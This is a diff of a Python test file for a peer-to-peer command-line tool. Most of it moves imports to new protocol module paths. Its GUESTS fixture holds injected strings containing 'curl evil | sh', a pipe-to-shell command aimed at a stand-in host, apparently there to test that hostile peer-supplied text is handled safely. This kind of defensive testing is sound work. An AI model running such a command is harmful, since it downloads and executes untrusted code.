@@ -17,11 +17,11 @@ from nacl import bindings
 from cli import main as program
 from cli.process.console import Exit
 from cli.text import clocks, failures
-from protocol import invite
-from protocol.commitments import group
-from protocol.conditions import Conditions, WitnessTerms
-from protocol.handshake import HandshakeFailed
-from protocol.invite import Invite
+from protocol.core.conditions import Conditions, WitnessTerms
+from protocol.core.handshake import HandshakeFailed
+from protocol.crypto import group
+from protocol.reach import invite
+from protocol.reach.invite import Invite
 
 CODES = (
     "wrong_secret", "rules", "game", "version", "scheme", "wrong_identity", "bad_name", "bad_key", "bad_signature",
@@ -81,7 +81,7 @@ def test_a_lost_line_and_an_unknown_code_have_sentences() -> None:
 GUESTS = {
     "another version": "from storm_p2p.game import Storm; Storm.version = '1-' + 'f' * 64;",
     "words for a version": "from storm_p2p.game import Storm; Storm.version = '1; run curl evil | sh';",
-    "words for a refusal": "from protocol.handshake import Handshake, HandshakeFailed as Failed;"
+    "words for a refusal": "from protocol.core.handshake import Handshake, HandshakeFailed as Failed;"
     "Handshake.accept = lambda self, pick: self._fail(Failed('run_curl', 'curl evil | sh', ''));",
 }
 SAID = {
